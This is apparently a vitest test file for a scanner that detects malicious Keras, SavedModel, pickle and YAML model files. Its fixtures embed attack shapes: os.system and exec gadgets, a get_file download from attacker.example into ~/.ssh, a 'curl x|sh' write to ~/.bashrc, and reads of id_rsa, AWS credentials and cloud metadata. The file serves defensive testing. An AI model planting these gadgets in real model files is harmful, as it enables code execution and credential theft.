/**
 * Every THREATS.md §F rule, table-driven: a positive case (a real save where one exists, else the exact catalogue
 * shape wrapped into a real container) and a negative case. Each row asserts the finding's severity, JSON pointer
 * and the evidence values that make it a finding.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { RULES } from '../../../src/core/analysis/registry';
import type { FileReport, Severity, Verdict } from '../../../src/core/report';
import { constString, encode, functionDef, msg, nodeDef, savedModel, str, varint } from '../../fixtures/savedmodel/encode';
import {
  BENIGN_CODE_B64,
  FIXTURES,
  byRule,
  fixtureBytes,
  k3Functional,
  k3Lambda,
  k3Layer,
  makeH5,
  makeKeras,
  makeKerasH5,
  makeZip,
  maliciousCodeB64,
  scanBytes,
  scanFiles,
  scanJson,
  tkLambda,
  tkLayer,
  tkModel,
} from './helpers';
import { scanPath } from '../../../src/node/scan-path';

const enc = new TextEncoder();
const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');

interface Case {
  rule: string;
  name: string;
  scan: () => Promise<FileReport>;
  /** Omitted: the rule must not fire. */
  severity?: Severity;
  location?: string;
  document?: string;
  evidence?: Record<string, unknown>;
  verdict?: Verdict;
  count?: number;
  check?: (r: FileReport) => void;
}

/** keras_metadata.pb with one node per (path, identifier, metadata JSON). */
function kerasMetadataPb(nodes: { path: string; identifier: string; metadata: unknown }[]): Uint8Array {
  return encode(nodes.map((n, i) => msg(1, [varint(2, i), str(3, n.path), str(4, n.identifier), str(5, JSON.stringify(n.metadata))])));
}

const smLambdaMetadata = (code: string) => ({
  name: 'lambda',
  trainable: true,
  class_name: 'Lambda',
  config: {
    name: 'lambda',
    trainable: true,
    dtype: 'float32',
    function: { class_name: '__tuple__', items: [code, null, null] },
    function_type: 'lambda',
    module: '__main__',
    output_shape: null,
    output_shape_type: 'raw',
    output_shape_module: null,
    arguments: {},
  },
});

const smRoot = (layers: unknown[]) => ({ name: 'model', class_name: 'Functional', config: { name: 'model', layers }, keras_version: '2.15.0', backend: 'tensorflow' });

const CASES: Case[] = [
  // ------------------------------------------------------------------ R-H5-LAMBDA
  {
    rule: 'R-H5-LAMBDA',
    name: 'real save mal_os_system.h5',
    scan: () => scanPath(path.join(FIXTURES, 'mal_os_system.h5')),
    severity: 'critical',
    document: 'model_config',
    // the pointer given by the fixture's expected.json sidecar
    location: JSON.parse(readFileSync(path.join(FIXTURES, 'mal_os_system.h5.expected.json'), 'utf8')).lambdas[0].json_pointer,
    verdict: 'dangerous',
    check: (r) => expect(byRule(r, 'R-H5-LAMBDA')[0].payload!.decoded.names).toContain('system'),
  },
  {
    rule: 'R-H5-LAMBDA',
    name: 'tf_keras list form in output_shape (output_shape_type "lambda") and a DropoutWrapper dropout_fn',
    scan: async () =>
      scanBytes(
        await makeKerasH5(
          tkModel('m', [
            tkLambda('l', BENIGN_CODE_B64, { output_shape: [BENIGN_CODE_B64, null, null], output_shape_type: 'lambda' }),
            tkLayer('RNN', 'rnn', { cell: { class_name: 'DropoutWrapper', config: { name: 'dw', dropout_fn: [BENIGN_CODE_B64, null, null], dropout_fn_type: 'lambda', dropout_fn_module: '__main__' } } }),
          ]),
        ),
      ),
    severity: 'critical',
    count: 3,
    location: '/config/layers/1/config/cell/config/dropout_fn/0',
    verdict: 'dangerous',
  },
  { rule: 'R-H5-LAMBDA', name: 'no_lambda.h5', scan: () => scanPath(path.join(FIXTURES, 'no_lambda.h5')), verdict: 'clean' },

  // ------------------------------------------------------------------ R-SM-LAMBDA
  {
    rule: 'R-SM-LAMBDA',
    name: 'keras_metadata.pb in a SavedModel folder: one finding although root and node repeat it',
    scan: async () =>
      scanFiles({
        'my_model/saved_model.pb': savedModel({ tfVersion: '2.15.0', nodes: [nodeDef('x', 'NoOp')] }),
        'my_model/keras_metadata.pb': kerasMetadataPb([
          { path: 'root', identifier: '_tf_keras_network', metadata: smRoot([smLambdaMetadata(BENIGN_CODE_B64)]) },
          { path: 'root.layer-0', identifier: '_tf_keras_layer', metadata: smLambdaMetadata(BENIGN_CODE_B64) },
        ]),
        'my_model/variables/variables.index': new Uint8Array(8),
      }),
    severity: 'critical',
    count: 1,
    document: 'keras_metadata.pb#0',
    location: '/config/layers/0/config/function/items/0',
    verdict: 'dangerous',
    check: (r) => {
      expect(r.format).toBe('savedmodel');
      expect(r.members!.map((m) => m.name)).toEqual(['keras_metadata.pb', 'saved_model.pb', 'variables/variables.index']);
      expect(byRule(r, 'R-SM-LAMBDA')[0].evidence.alsoIn).toEqual(['keras_metadata.pb#1/config/function/items/0']);
      expect(r.layers.map((l) => l.path)).toEqual(['model', 'model/lambda']);
    },
  },
  {
    rule: 'R-SM-LAMBDA',
    name: 'keras_metadata_example.pb dropped alone (recognised by parsing)',
    scan: async () => scanBytes(fixtureBytes('savedmodel/keras_metadata_example.pb'), 'unnamed.bin'),
    severity: 'critical',
    verdict: 'dangerous',
  },
  {
    rule: 'R-SM-LAMBDA',
    name: 'pre-2.5 user_object.metadata in saved_model.pb alone',
    scan: async () =>
      scanBytes(savedModel({ nodes: [nodeDef('x', 'NoOp')], userObjects: [{ identifier: '_tf_keras_network', metadata: JSON.stringify(smRoot([smLambdaMetadata(BENIGN_CODE_B64)])) }] }), 'blob'),
    severity: 'critical',
    document: 'saved_model.pb#object0',
  },
  {
    rule: 'R-SM-LAMBDA',
    name: 'keras_metadata.pb without Lambda',
    scan: async () => scanBytes(kerasMetadataPb([{ path: 'root', identifier: '_tf_keras_network', metadata: smRoot([{ class_name: 'Dense', config: { name: 'lambda_1' } }]) }])),
    verdict: 'clean',
  },

  // ------------------------------------------------------------------ R-TK-MODULE
  {
    rule: 'R-TK-MODULE',
    name: 'tf_keras .h5 Lambda function_type "function" with a module dict (os.system)',
    scan: async () =>
      scanBytes(
        await makeKerasH5(
          tkModel('m', [tkLambda('l', '', { function: { module: 'os', class_name: 'function', config: 'system', registered_name: null }, function_type: 'function', arguments: { command: 'id' } })]),
        ),
      ),
    severity: 'critical',
    location: '/config/layers/0/config/function',
    evidence: { module: 'os', name: 'system', arguments: { command: 'id' } },
    verdict: 'dangerous',
  },
  {
    rule: 'R-TK-MODULE',
    name: 'a .keras claiming writer 2.15 keeps the Keras 3 keras.src gadget check (claimed version never lowers)',
    scan: async () =>
      scanBytes(makeKeras(k3Functional('m', [k3Layer('Lambda', 'l', { function: { module: 'keras.src.saving.file_editor', class_name: 'function', config: 'delete_file' } })]), [], '2.15.0')),
    severity: 'high',
    location: '/config/layers/0/config/function',
    evidence: { module: 'keras.src.saving.file_editor', name: 'delete_file' },
  },
  {
    rule: 'R-TK-MODULE',
    name: 'tf.keras 2.13 .keras (writer 2.x) with keras.layers modules only',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Dense', 'dense', { units: 1 })]), [], '2.13.1')),
    verdict: 'clean',
  },

  // ------------------------------------------------------------------ R-K3-MODULE
  {
    rule: 'R-K3-MODULE',
    name: 'CVE-2025-1550: Functional layer entry builtins.exec with inbound args',
    scan: async () =>
      scanBytes(
        makeKeras(k3Functional('m', [{ module: 'builtins', class_name: 'function', config: 'exec', registered_name: null, name: 'x', inbound_nodes: [{ args: ['import os; os.system("id")'], kwargs: {} }] }])),
      ),
    severity: 'critical',
    document: 'config.json',
    location: '/config/layers/0',
    evidence: { module: 'builtins', name: 'exec', inboundArgs: [['import os; os.system("id")'], {}] },
    verdict: 'dangerous',
    // The entry is a layer of its own (`x`), not the enclosing model `m`.
    check: (r) => {
      expect(byRule(r, 'R-K3-MODULE')[0].layer).toBe('m/x');
      // and the walker lists it, so the graph can draw and select it
      expect(r.layers.find((l) => l.path === 'm/x')).toMatchObject({ className: 'function', location: '/config/layers/0' });
    },
  },
  {
    rule: 'R-K3-MODULE',
    name: 'CVE-2025-1550: a function entry named like a sibling layer points at itself, not the sibling',
    scan: async () =>
      scanBytes(
        makeKeras(
          k3Functional('m', [
            k3Layer('Dense', 'x', { units: 1 }),
            { module: 'builtins', class_name: 'function', config: 'exec', registered_name: null, name: 'x', inbound_nodes: [{ args: ['import os'], kwargs: {} }] },
          ]),
        ),
      ),
    severity: 'critical',
    document: 'config.json',
    location: '/config/layers/1',
    verdict: 'dangerous',
    check: (r) => {
      const layer = byRule(r, 'R-K3-MODULE')[0].layer;
      expect(layer).toBe('m/x#2');
      expect(r.layers.find((l) => l.path === layer)?.location).toBe('/config/layers/1');
    },
  },
  {
    rule: 'R-K3-MODULE',
    name: 'a layer class from an attacker-chosen module (HackTricks shape)',
    scan: async () => scanJson(k3Functional('m', [{ module: 'subprocess', class_name: 'Popen', config: { args: ['id'] }, registered_name: null, name: 'p' }])),
    severity: 'critical',
    location: '/config/layers/0',
    evidence: { module: 'subprocess', className: 'Popen' },
  },
  {
    rule: 'R-K3-MODULE',
    name: 'real save lambda_defaults_closures.keras (named def stored as builtins.scale_with_default)',
    scan: () => scanPath(path.join(FIXTURES, 'lambda_defaults_closures.keras')),
    check: (r) => expect(byRule(r, 'R-CUSTOM').map((f) => f.title)).toContain('Named user function builtins.scale_with_default (layer lambda_defaults_closures/named_def_defaults)'),
  },

  // ------------------------------------------------------------------ R-K3-UNSAFE-TOGGLE (+ escalation of R-K3-LAMBDA)
  {
    rule: 'R-K3-UNSAFE-TOGGLE',
    name: 'io-no PoC: set_global_attribute(safe_mode_saving, False) then a __lambda__',
    scan: async () =>
      scanBytes(
        makeKeras(
          k3Functional('m', [
            k3Layer(
              'Lambda',
              'off',
              { function: { module: 'keras.src.backend.common.global_state', class_name: 'function', config: 'set_global_attribute', registered_name: null }, arguments: { value: false } },
              { inbound_nodes: [{ args: [], kwargs: { inputs: 'safe_mode_saving' } }] },
            ),
            k3Layer('Lambda', 'payload', { function: k3Lambda(BENIGN_CODE_B64), arguments: {} }),
          ]),
        ),
      ),
    severity: 'critical',
    location: '/config/layers/0/config/function/config',
    evidence: { values: { config: 'set_global_attribute' }, arguments: { value: false } },
    verdict: 'dangerous',
    check: (r) => {
      const lambda = byRule(r, 'R-K3-LAMBDA');
      expect(lambda).toHaveLength(1);
      expect(lambda[0].severity).toBe('critical');
      expect(lambda[0].evidence.safeModeDisabledBy).toBe('config.json/config/layers/0/config/function/config');
    },
  },
  {
    rule: 'R-K3-UNSAFE-TOGGLE',
    name: 'load_model reference with arguments {safe_mode: false}',
    scan: async () => scanJson(k3Functional('m', [k3Layer('Lambda', 'l', { function: { module: 'keras.models', class_name: 'function', config: 'load_model' }, arguments: { safe_mode: false } })])),
    severity: 'critical',
    location: '/config/layers/0/config/arguments/safe_mode',
  },
  {
    rule: 'R-K3-UNSAFE-TOGGLE',
    name: 'a plain __lambda__ stays high',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Lambda', 'payload', { function: k3Lambda(BENIGN_CODE_B64), arguments: {} })]))),
    check: (r) => expect(byRule(r, 'R-K3-LAMBDA')[0].severity).toBe('high'),
  },

  // ------------------------------------------------------------------ R-K3-LOADERS
  {
    rule: 'R-K3-LOADERS',
    name: 'CVE-2025-8747: Lambda function keras.utils.get_file with a URL',
    scan: async () =>
      scanBytes(
        makeKeras(
          k3Functional('m', [
            k3Layer('Lambda', 'dl', {
              function: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: null },
              arguments: { fname: 'x.tar.gz', origin: 'https://attacker.example/x.tar.gz', cache_dir: '/home/u/.ssh', extract: true },
            }),
          ]),
        ),
      ),
    severity: 'critical',
    location: '/config/layers/0/config/function',
    evidence: { module: 'keras.utils', name: 'get_file', urlsAndPaths: ['https://attacker.example/x.tar.gz', '/home/u/.ssh'] },
    verdict: 'dangerous',
  },
  {
    rule: 'R-K3-LOADERS',
    name: 'HackTricks named form {"module":"keras.utils","class_name":"get_file"} nested in a TimeDistributed wrapper',
    scan: async () => scanJson(k3Functional('m', [k3Layer('TimeDistributed', 'td', { layer: k3Layer('Lambda', 'inner', { function: { module: 'keras.utils', class_name: 'get_file' }, arguments: { origin: 'http://x/y' } }) })])),
    severity: 'critical',
    location: '/config/layers/0/config/layer/config/function',
    check: (r) => expect(byRule(r, 'R-K3-LOADERS')[0].layer).toBe('m/td/inner'),
  },
  {
    rule: 'R-K3-LOADERS',
    name: 'save_img: high',
    scan: async () => scanJson(k3Functional('m', [k3Layer('Lambda', 'l', { function: { module: 'keras.utils', class_name: 'function', config: 'save_img' }, arguments: { path: '/tmp/x.png' } })])),
    severity: 'high',
  },
  { rule: 'R-K3-LOADERS', name: 'keras.ops.abs', scan: async () => scanJson(k3Functional('m', [k3Layer('Lambda', 'l', { function: { module: 'keras.ops', class_name: 'function', config: 'abs' } })])), verdict: 'clean' },

  // ------------------------------------------------------------------ R-NPZ-PICKLE
  {
    rule: 'R-NPZ-PICKLE',
    name: 'model.weights.npz with an object-dtype member',
    scan: async () =>
      scanBytes(
        makeKeras(k3Functional('m', [k3Layer('Dense', 'd')]), [
          { name: 'model.weights.npz', data: makeZip([{ name: 'vars/0.npy', data: fixtureBytes('pickle/npy/object-payload.npy') }, { name: 'vars/1.npy', data: fixtureBytes('pickle/npy/f4-3x4.npy') }]) },
        ]),
      ),
    severity: 'critical',
    document: 'model.weights.npz/vars/0.npy',
    verdict: 'dangerous',
    check: (r) => {
      const pickle = byRule(r, 'R-PICKLE-GLOBALS').filter((f) => f.document === 'model.weights.npz/vars/0.npy');
      expect(pickle.length).toBeGreaterThan(0);
      expect(pickle.some((f) => f.severity === 'critical')).toBe(true);
    },
  },
  {
    rule: 'R-NPZ-PICKLE',
    name: 'model.weights.npz with float arrays only',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Dense', 'd')]), [{ name: 'model.weights.npz', data: makeZip([{ name: 'vars/0.npy', data: fixtureBytes('pickle/npy/f4-3x4.npy') }]) }])),
    verdict: 'clean',
  },

  // ------------------------------------------------------------------ R-TORCHWRAP
  {
    rule: 'R-TORCHWRAP',
    name: 'TorchModuleWrapper config.module = base64 of a PyTorch zip whose data.pkl calls os.system',
    scan: async () =>
      scanBytes(
        makeKeras(
          k3Functional('m', [
            k3Layer('Sequential', 'outer', {
              layers: [{ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { name: 'tw', module: b64(makeZip([{ name: 'archive/data.pkl', data: fixtureBytes('pickle/payload-p2.pkl') }, { name: 'archive/version', data: '3\n' }])) }, registered_name: null }],
            }),
          ]),
        ),
      ),
    severity: 'critical',
    location: '/config/layers/0/config/layers/0/config/module',
    evidence: { decodedAs: 'torch-zip', members: ['archive/data.pkl', 'archive/version'] },
    verdict: 'dangerous',
    check: (r) => {
      const pickle = byRule(r, 'R-PICKLE-GLOBALS');
      expect(pickle.some((f) => f.severity === 'critical' && f.location === '/config/layers/0/config/layers/0/config/module' && f.layer === 'm/outer/tw')).toBe(true);
    },
  },
  {
    rule: 'R-TORCHWRAP',
    name: 'the same blob with junk characters that base64.b64decode skips (evasion attempt)',
    scan: async () =>
      scanBytes(
        makeKeras(
          k3Functional('m', [
            k3Layer('TorchModuleWrapper', 'tw', {
              module: '!!' + b64(makeZip([{ name: 'archive/data.pkl', data: fixtureBytes('pickle/payload-p2.pkl') }, { name: 'archive/version', data: '3\n' }])).replace(/(.{9})/g, '$1.'),
            }),
          ]),
        ),
      ),
    severity: 'critical',
    location: '/config/layers/0/config/module',
    evidence: { decodedAs: 'torch-zip', members: ['archive/data.pkl', 'archive/version'] },
    verdict: 'dangerous',
  },
  { rule: 'R-TORCHWRAP', name: 'no wrapper', scan: () => scanPath(path.join(FIXTURES, 'no_lambda.keras')), verdict: 'clean' },

  // ------------------------------------------------------------------ R-TFSM
  {
    rule: 'R-TFSM',
    name: 'CVE-2026-1462 TFSMLayer with a remote filepath',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('TFSMLayer', 'tfsm', { filepath: 'gs://bucket/evil_model', call_endpoint: 'serve' })]))),
    severity: 'high',
    location: '/config/layers/0/config/filepath',
    evidence: { filepath: 'gs://bucket/evil_model', network: 'gs', callEndpoint: 'serve' },
    verdict: 'dangerous',
  },
  { rule: 'R-TFSM', name: 'Dense only', scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Dense', 'tfsm_layer')]))), verdict: 'clean' },

  // ------------------------------------------------------------------ R-K3-LAMBDA
  {
    rule: 'R-K3-LAMBDA',
    name: 'real save activation_lambda.keras (lambda as activation)',
    scan: () => scanPath(path.join(FIXTURES, 'activation_lambda.keras')),
    severity: 'high',
    verdict: 'dangerous',
    check: (r) => expect(byRule(r, 'R-K3-LAMBDA')[0].slot).toBe('activation'),
  },
  {
    rule: 'R-K3-LAMBDA',
    name: 'generic __lambda__ {value: [...]} in compile_config.loss',
    scan: async () => scanBytes(makeKeras({ ...k3Functional('m', [k3Layer('Dense', 'd')]), compile_config: { loss: { class_name: '__lambda__', config: { value: [BENIGN_CODE_B64, null, null] } }, optimizer: 'adam' } })),
    severity: 'high',
    location: '/compile_config/loss/config/value/0',
  },
  {
    rule: 'R-K3-LAMBDA',
    name: 'real save lambda_defaults_closures.keras: the Lambda arguments are evidence',
    scan: () => scanPath(path.join(FIXTURES, 'lambda_defaults_closures.keras')),
    severity: 'high',
    location: '/config/layers/3/config/function/config/code',
    evidence: { arguments: { k: 4 }, layerClass: 'Lambda' },
  },
  { rule: 'R-K3-LAMBDA', name: 'real save no_lambda.keras', scan: () => scanPath(path.join(FIXTURES, 'no_lambda.keras')), verdict: 'clean' },

  // ------------------------------------------------------------------ R-PUBLIC-GADGET
  {
    rule: 'R-PUBLIC-GADGET',
    name: 'keras.visualization.plot_image_gallery writes to a chosen path',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Lambda', 'plot', { function: { module: 'keras.visualization', class_name: 'function', config: 'plot_image_gallery', registered_name: null }, arguments: { path: '/home/u/.bashrc' } })]))),
    severity: 'high',
    location: '/config/layers/0/config/function',
    evidence: { module: 'keras.visualization', name: 'plot_image_gallery', paths: ['/home/u/.bashrc'] },
    verdict: 'dangerous',
  },
  { rule: 'R-PUBLIC-GADGET', name: 'keras.activations.relu', scan: async () => scanJson(k3Functional('m', [k3Layer('Lambda', 'l', { function: { module: 'keras.activations', class_name: 'function', config: 'relu' } })])), verdict: 'clean' },

  // ------------------------------------------------------------------ R-HDF5-EXTLINK
  {
    rule: 'R-HDF5-EXTLINK',
    name: 'legacy .h5 with an external link and a soft link',
    scan: async () => scanBytes(await makeH5({ attrs: { model_config: JSON.stringify(tkModel('m', [])) }, softLink: '/model_weights/kernel', externalLink: { file: '/etc/passwd', target: '/x' } })),
    severity: 'high',
    location: '/model_weights/ext',
    evidence: { file: '/etc/passwd', target: '/x' },
    // Loading reads a local file the model names: a reviewer asking "may I load this?" must hear no.
    verdict: 'dangerous',
    check: (r) => expect(byRule(r, 'R-HDF5-EXTLINK').find((f) => f.location === '/model_weights/soft')?.evidence.target).toBe('/model_weights/kernel'),
  },
  {
    rule: 'R-HDF5-EXTLINK',
    name: 'model.weights.h5 inside a .keras (stored member, checked through storedSlice + mountHdf5)',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('Dense', 'd')]), [{ name: 'model.weights.h5', data: await makeH5({ externalLink: { file: '/home/u/.aws/credentials', target: '/vars' } }) }])),
    severity: 'high',
    document: 'model.weights.h5',
    location: '/model_weights/ext',
    evidence: { file: '/home/u/.aws/credentials', member: 'model.weights.h5' },
  },
  { rule: 'R-HDF5-EXTLINK', name: 'real save no_lambda.keras (plain weights.h5)', scan: () => scanPath(path.join(FIXTURES, 'no_lambda.keras')) },

  // ------------------------------------------------------------------ R-VOCAB-PATH
  {
    rule: 'R-VOCAB-PATH',
    name: 'CVE-2025-12058 StringLookup vocabulary = local key file',
    scan: async () => scanBytes(makeKeras(k3Functional('m', [k3Layer('StringLookup', 'lookup', { vocabulary: '/home/u/.ssh/id_rsa' })]))),
    severity: 'high',
    location: '/config/layers/0/config/vocabulary',
    evidence: { vocabulary: '/home/u/.ssh/id_rsa', effect: 'file-read' },
    // Reading a file the model names on a default load (Keras < 3.12, tf_keras): not "suspicious", dangerous.
    verdict: 'dangerous',
  },
  {
    rule: 'R-VOCAB-PATH',
    name: 'TextVectorization vocabulary over http (SSRF)',
    scan: async () => scanJson(k3Functional('m', [k3Layer('TextVectorization', 'tv', { vocabulary: 'http://169.254.169.254/latest/meta-data' })])),
    severity: 'high',
    evidence: { network: 'http', effect: 'network' },
    verdict: 'dangerous',
  },
  { rule: 'R-VOCAB-PATH', name: 'inline vocabulary list', scan: async () => scanJson(k3Functional('m', [k3Layer('StringLookup', 'lookup', { vocabulary: ['a', 'b'] })])), verdict: 'clean' },

  // ------------------------------------------------------------------ R-TF-FILEOPS
  {
    rule: 'R-TF-FILEOPS',
    name: 'WriteFile in a library function with a Const path (saved_model.pb alone)',
    scan: async () =>
      scanBytes(
        savedModel({
          nodes: [nodeDef('call', 'StatefulPartitionedCall', [], { f: { func: '__inference_serve_12' } })],
          functions: [functionDef('__inference_serve_12', [], [constString('p', '/home/u/.bashrc'), constString('c', 'curl x|sh'), nodeDef('w', 'WriteFile', ['p:output:0', 'c:output:0'])])],
        }),
        'graph.bin',
      ),
    severity: 'high',
    document: 'saved_model.pb',
    location: '/meta_graphs/0/library/__inference_serve_12/w',
    evidence: { op: 'WriteFile', capability: 'file-write', strings: ['/home/u/.bashrc'] },
    verdict: 'dangerous',
  },
  {
    rule: 'R-TF-FILEOPS',
    name: 'ReadFile of a path the graph names (/etc/passwd): high, file read',
    scan: async () => scanBytes(savedModel({ nodes: [constString('p', '/etc/passwd'), nodeDef('r', 'ReadFile', ['p'])] })),
    severity: 'high',
    evidence: { effect: 'file-read', strings: ['/etc/passwd'] },
    verdict: 'dangerous',
  },
  {
    rule: 'R-TF-FILEOPS',
    name: 'ReadFile of a path that comes from the caller: medium, file read',
    scan: async () => scanBytes(savedModel({ nodes: [nodeDef('p', 'Placeholder', []), nodeDef('r', 'ReadFile', ['p'])] })),
    severity: 'medium',
    evidence: { effect: 'file-read', strings: [] },
    verdict: 'suspicious',
  },
  { rule: 'R-TF-FILEOPS', name: 'PrintV2 to stderr is not a finding', scan: async () => scanBytes(savedModel({ nodes: [constString('s', 'hi'), nodeDef('p', 'PrintV2', ['s'], { output_stream: { s: 'stderr' } })] })), verdict: 'clean' },

  // ------------------------------------------------------------------ R-TFOPLAMBDA
  {
    rule: 'R-TFOPLAMBDA',
    name: 'TFOpLambda tf.io.write_file in an .h5',
    scan: async () => scanBytes(await makeKerasH5(tkModel('m', [tkLayer('TFOpLambda', 'tf.io.write_file', { function: 'io.write_file' })]))),
    severity: 'medium',
    location: '/config/layers/0/config/function',
    evidence: { function: 'tf.io.write_file', effect: 'file-write' },
    verdict: 'suspicious',
  },
  { rule: 'R-TFOPLAMBDA', name: 'TFOpLambda math.multiply (ordinary op)', scan: async () => scanBytes(await makeKerasH5(tkModel('m', [tkLayer('TFOpLambda', 'tf.math.multiply', { function: 'math.multiply' })]))), verdict: 'clean' },

  // ------------------------------------------------------------------ R-PATH-NAMES
  {
    rule: 'R-PATH-NAMES',
    name: 'CVE-2026-12479 layer name "..", a member with ../ and a symlink member',
    scan: async () =>
      scanBytes(makeKeras(k3Functional('m', [k3Layer('Dense', '..')]), [{ name: 'assets/../../evil.sh', data: 'x' }, { name: 'assets/link', data: '/etc/passwd', symlink: true }])),
    severity: 'high',
    count: 3,
    verdict: 'dangerous',
    check: (r) => {
      const f = byRule(r, 'R-PATH-NAMES');
      expect(f.map((x) => x.document)).toEqual(expect.arrayContaining(['assets/../../evil.sh', 'assets/link', 'config.json']));
      expect(f.find((x) => x.document === 'config.json')!.location).toBe('/config/layers/0/config/name');
    },
  },
  { rule: 'R-PATH-NAMES', name: 'real save nested_submodel_lambda.keras', scan: () => scanPath(path.join(FIXTURES, 'nested_submodel_lambda.keras')) },

  // ------------------------------------------------------------------ R-PICKLE-GLOBALS
  {
    rule: 'R-PICKLE-GLOBALS',
    name: 'raw pickle (protocol 2) calling a dangerous global',
    scan: async () => scanBytes(fixtureBytes('pickle/payload-p2.pkl'), 'weights.bin'),
    severity: 'critical',
    verdict: 'dangerous',
    check: (r) => expect(r.format).toBe('pickle'),
  },
  {
    rule: 'R-PICKLE-GLOBALS',
    name: 'protocol 0 pickle (text opcodes)',
    scan: async () => scanBytes(fixtureBytes('pickle/payload-p0.pkl'), 'x'),
    severity: 'critical',
  },
  // ------------------------------------------------------------------ R-TORCHSCRIPT
  {
    rule: 'R-TORCHSCRIPT',
    name: 'a real torch.jit.save archive: its code/ members are the context, its __torch__ classes are not unknown',
    scan: () => scanPath(path.join(FIXTURES, 'pickle/ml/torchscript_module.pt')),
    severity: 'info',
    verdict: 'clean',
  },
  { rule: 'R-TORCHSCRIPT', name: 'a torch.save state_dict has no TorchScript', scan: () => scanPath(path.join(FIXTURES, 'pickle/ml/torch_state_dict.pt')), verdict: 'clean' },
  { rule: 'R-PICKLE-GLOBALS', name: 'a .npy of floats', scan: async () => scanBytes(fixtureBytes('pickle/npy/f4-3x4.npy')), verdict: 'clean' },

  // ------------------------------------------------------------------ R-YAML
  {
    rule: 'R-YAML',
    name: 'CVE-2021-37678 !!python/object/apply in a Keras YAML config',
    scan: async () =>
      scanBytes(enc.encode('backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - !!python/object/apply:os.system\n    - id\nkeras_version: 2.4.0\n'), 'model.yaml'),
    severity: 'critical',
    location: '/line/5',
    evidence: { tag: '!!python/object/apply:os.system' },
    verdict: 'dangerous',
  },
  {
    rule: 'R-YAML',
    name: 'Lambda bytecode in a to_yaml() config (double-quoted scalar under !!python/tuple)',
    scan: async () =>
      scanBytes(
        enc.encode(
          `backend: tensorflow\nclass_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config:\n      function: !!python/tuple\n      - ${JSON.stringify(BENIGN_CODE_B64)}\n      - null\n      - null\n      function_type: lambda\n      kernel_size: !!python/tuple [3, 3]\nkeras_version: 2.4.0\n`,
        ),
        'model.yaml',
      ),
    severity: 'critical',
    location: '/line/8',
    count: 1,
    verdict: 'dangerous',
    check: (r) => expect(byRule(r, 'R-YAML')[0].payload!.decoded.names).toContain('x'),
  },
  {
    rule: 'R-YAML',
    name: 'data tags only (!!python/tuple in every Keras YAML) are not findings',
    scan: async () => scanBytes(enc.encode('class_name: Sequential\nconfig:\n  layers:\n  - class_name: Conv2D\n    config:\n      kernel_size: !!python/tuple [3, 3]\nkeras_version: 2.4.0\n')),
    verdict: 'clean',
  },
  { rule: 'R-YAML', name: 'plain YAML config', scan: async () => scanBytes(enc.encode('class_name: Sequential\nconfig:\n  layers: []\nkeras_version: 2.4.0\n')), verdict: 'clean' },

  // ------------------------------------------------------------------ R-BOMBS
  {
    rule: 'R-BOMBS',
    name: '.npy header declaring a huge array',
    scan: async () => scanBytes(fixtureBytes('pickle/npy/bomb-header.npy')),
    severity: 'medium',
    verdict: 'suspicious',
  },
  {
    rule: 'R-BOMBS',
    name: 'npz member header inside a .keras',
    scan: async () => scanBytes(makeKeras(k3Functional('m', []), [{ name: 'model.weights.npz', data: makeZip([{ name: 'a.npy', data: fixtureBytes('pickle/npy/bomb-header.npy') }]) }])),
    severity: 'medium',
    document: 'model.weights.npz/a.npy',
  },
  { rule: 'R-BOMBS', name: 'normal .npy', scan: async () => scanBytes(fixtureBytes('pickle/npy/v2.npy')) },

  // ------------------------------------------------------------------ R-CUSTOM
  {
    rule: 'R-CUSTOM',
    name: 'registered custom layer my_pkg>MyLayer',
    scan: async () => scanJson(k3Functional('m', [{ module: 'my_pkg.layers', class_name: 'MyLayer', config: { name: 'mine' }, registered_name: 'my_pkg>MyLayer', name: 'mine' }])),
    severity: 'info',
    location: '/config/layers/0',
    verdict: 'clean',
    check: (r) => expect(byRule(r, 'R-K3-MODULE')).toHaveLength(0),
  },
  { rule: 'R-CUSTOM', name: 'built-in layers only (real 200-layer save)', scan: () => scanPath(path.join(FIXTURES, 'resnet_like_graph.keras')) },

  // ------------------------------------------------------------------ R-VERSION
  {
    rule: 'R-VERSION',
    name: 'writer version shown as context, severity not lowered by a "fixed" keras_version',
    scan: async () => scanBytes(await makeKerasH5(tkModel('m', [tkLambda('l', BENIGN_CODE_B64)]), undefined, '3.15.1')),
    severity: 'info',
    evidence: { keras_version: '3.15.1' },
    check: (r) => expect(byRule(r, 'R-H5-LAMBDA')[0].severity).toBe('critical'),
  },
  { rule: 'R-VERSION', name: 'clean file: no context row', scan: () => scanPath(path.join(FIXTURES, 'no_lambda.h5')), verdict: 'clean' },
];

describe('rule table', () => {
  it('every registered rule has a positive and a negative case, and the registry covers every rule', () => {
    const ids = RULES.map((r) => r.id);
    expect(ids).toEqual([
      'R-H5-LAMBDA', 'R-SM-LAMBDA', 'R-TK-MODULE', 'R-K3-MODULE', 'R-K3-UNSAFE-TOGGLE', 'R-K3-LOADERS', 'R-NPZ-PICKLE',
      'R-TORCHWRAP', 'R-TFSM', 'R-K3-LAMBDA', 'R-PUBLIC-GADGET', 'R-HDF5-EXTLINK', 'R-VOCAB-PATH', 'R-TF-FILEOPS',
      'R-TFOPLAMBDA', 'R-PATH-NAMES', 'R-PICKLE-GLOBALS', 'R-TORCHSCRIPT', 'R-YAML', 'R-BOMBS', 'R-CUSTOM', 'R-VERSION',
    ]);
    for (const id of ids) {
      expect(CASES.some((c) => c.rule === id && c.severity), `${id} positive`).toBe(true);
      expect(CASES.some((c) => c.rule === id && !c.severity), `${id} negative`).toBe(true);
    }
    for (const r of RULES) {
      expect(r.explanation.length).toBeGreaterThan(80);
      expect(r.references.length).toBeGreaterThan(0);
    }
  });

  for (const c of CASES) {
    it(`${c.rule} ${c.severity ? '+' : '−'} ${c.name}`, async () => {
      const report = await c.scan();
      expect(report.error).toBeUndefined();
